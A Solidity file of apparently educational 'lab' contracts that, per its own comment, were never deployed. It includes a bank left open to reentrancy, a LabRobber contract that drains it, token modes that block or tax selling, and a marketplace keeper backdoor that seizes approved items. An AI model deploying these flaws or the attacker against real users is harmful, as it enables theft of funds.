// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IToken} from "./Lab.sol";

// Contracts of the labs that keep what belongs to others, some of them badly. Never deployed.

/// @notice A wallet of three owners. A call needs two of them.
contract LabTeamWallet {
    struct Call {
        address to;
        bytes4 selector;
        address account;
        uint256 value;
        uint256 confirmations;
    }

    mapping(address => bool) public isOwner;
    Call[] public calls;
    mapping(uint256 id => mapping(address owner => bool)) public hasConfirmed;

    error OnlyOwner();
    error OnlyOnce();
    error Failed();

    constructor(address a, address b, address c) {
        isOwner[a] = isOwner[b] = isOwner[c] = true;
    }

    function propose(address to, bytes4 selector, address account, uint256 value) external {
        if (!isOwner[msg.sender]) revert OnlyOwner();
        calls.push(Call(to, selector, account, value, 0));
        confirm(calls.length - 1);
    }

    /// @notice The second confirmation makes the call.
    function confirm(uint256 id) public {
        if (!isOwner[msg.sender]) revert OnlyOwner();
        if (hasConfirmed[id][msg.sender]) revert OnlyOnce();
        hasConfirmed[id][msg.sender] = true;
        Call storage one = calls[id];
        if (++one.confirmations != 2) return;
        (bool done,) = one.to.call(abi.encodeWithSelector(one.selector, one.account, one.value));
        if (!done) revert Failed();
    }

    /// @dev The wallet calls itself, so this needs two owners as well.
    function replaceOwner(address old, uint256 by) external {
        if (msg.sender != address(this)) revert OnlyOwner();
        isOwner[old] = false;
        isOwner[address(uint160(by))] = true;
    }
}

/// @notice An account of one key, which enough of three guardians can replace after two days. The key can stop them.
contract LabGuardedAccount {
    uint256 public constant WAIT = 2 days;

    address public key;
    mapping(address => bool) public isGuardian;
    uint256 public needed;
    /// @dev Raised by a stop, so that what was signed before counts no more.
    uint256 public round;
    mapping(uint256 round => mapping(address newKey => uint256)) public signed;
    mapping(uint256 round => mapping(address newKey => mapping(address guardian => bool))) public hasSupported;
    address public next;
    uint256 public readyAt;

    error OnlyKey();
    error OnlyGuardian();
    error OnlyOnce();
    error NotReady();
    error Failed();

    constructor(address key_) {
        key = key_;
    }

    modifier onlyKey() {
        if (msg.sender != key) revert OnlyKey();
        _;
    }

    function name(address a, address b, address c, uint256 needed_) external onlyKey {
        if (needed != 0) revert OnlyOnce();
        isGuardian[a] = isGuardian[b] = isGuardian[c] = true;
        needed = needed_;
    }

    function support(address newKey) external {
        if (!isGuardian[msg.sender]) revert OnlyGuardian();
        if (hasSupported[round][newKey][msg.sender]) revert OnlyOnce();
        hasSupported[round][newKey][msg.sender] = true;
        if (++signed[round][newKey] != needed) return;
        next = newKey;
        readyAt = block.timestamp + WAIT;
    }

    function stop() external onlyKey {
        round++;
        readyAt = 0;
    }

    function finish() external {
        if (readyAt == 0 || block.timestamp < readyAt) revert NotReady();
        key = next;
        round++;
        readyAt = 0;
    }

    function pay(address token, address to, uint256 value) external onlyKey {
        (bool done,) = token.call(abi.encodeWithSignature("transfer(address,uint256)", to, value));
        if (!done) revert Failed();
    }
}

/// @notice A bank that pays before it writes down that it paid, until its keeper repairs it.
contract LabBank {
    enum Repair {
        None,
        Cap,
        Check,
        WriteFirst,
        Lock,
        Close
    }

    address public immutable keeper;
    Repair public repair;
    mapping(address account => uint256) public deposited;
    bool private _isPaying;

    error Refused();

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function setRepair(Repair repair_) external {
        if (msg.sender != keeper) revert Refused();
        repair = repair_;
    }

    function deposit() external payable {
        deposited[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 value = deposited[msg.sender];
        if (repair == Repair.Close) revert Refused();
        if (repair == Repair.Lock && _isPaying) revert Refused();
        if (repair == Repair.Check && value == 0) revert Refused();
        if (repair == Repair.Cap && value > 1 ether) value = 1 ether;
        _isPaying = true;
        if (repair == Repair.WriteFirst) deposited[msg.sender] = 0;
        (bool sent,) = msg.sender.call{value: value}("");
        if (!sent) revert Refused();
        deposited[msg.sender] = 0;
        _isPaying = false;
    }
}

/// @notice Asks a bank again while it is paying.
contract LabRobber {
    LabBank private _bank;
    uint256 private _left;

    /// @param again How often to ask again.
    function rob(LabBank bank, uint256 again) external payable {
        (_bank, _left) = (bank, again);
        bank.deposit{value: msg.value}();
        bank.withdraw();
        (bool sent,) = msg.sender.call{value: address(this).balance}("");
        require(sent);
    }

    receive() external payable {
        if (_left == 0) return;
        _left--;
        _bank.withdraw();
    }
}

/// @notice A token with its own market: 1,000 for one ETH. What selling does depends on who wrote it.
contract LabMarketToken {
    enum Sale {
        Fair,
        OwnerOnly,
        Taxed,
        Switch
    }

    address public immutable owner;
    Sale public immutable sale;
    bool public isOpen = true;
    mapping(address account => uint256) public balanceOf;

    error Refused();

    event Bought(address indexed by, uint256 value);
    event Sold(address indexed by, uint256 value);

    constructor(address owner_, Sale sale_) {
        (owner, sale) = (owner_, sale_);
    }

    receive() external payable {}

    function buy() external payable {
        balanceOf[msg.sender] += msg.value * 1000;
        emit Bought(msg.sender, msg.value * 1000);
    }

    function sell(uint256 value) external {
        if (sale == Sale.OwnerOnly && msg.sender != owner) revert Refused();
        if (sale == Sale.Switch && !isOpen) revert Refused();
        balanceOf[msg.sender] -= value;
        uint256 paid = value / 1000;
        if (sale == Sale.Taxed && msg.sender != owner) paid /= 20;
        (bool sent,) = msg.sender.call{value: paid}("");
        require(sent);
        emit Sold(msg.sender, value);
    }

    function setOpen(bool isOpen_) external {
        if (msg.sender != owner) revert Refused();
        isOpen = isOpen_;
    }
}

interface INumbered {
    function transferFrom(address from, address to, uint256 number) external;
    function ownerOf(uint256 number) external view returns (address);
}

/// @notice Sells numbered things for their owners, who allowed it to move them. Its keeper may move them, too.
contract LabMarketplace {
    INumbered public immutable things;
    IToken public immutable token;
    address public immutable keeper;
    mapping(uint256 number => uint256) public price;

    error Refused();

    constructor(INumbered things_, IToken token_, address keeper_) {
        (things, token, keeper) = (things_, token_, keeper_);
    }

    function list(uint256 number, uint256 price_) external {
        if (things.ownerOf(number) != msg.sender) revert Refused();
        price[number] = price_;
    }

    function buy(uint256 number) external {
        address seller = things.ownerOf(number);
        if (price[number] == 0) revert Refused();
        token.transferFrom(msg.sender, seller, price[number]);
        price[number] = 0;
        things.transferFrom(seller, msg.sender, number);
    }

    /// @dev The door that an approval leaves open.
    function take(uint256 number) external {
        if (msg.sender != keeper) revert Refused();
        things.transferFrom(things.ownerOf(number), keeper, number);
    }
}
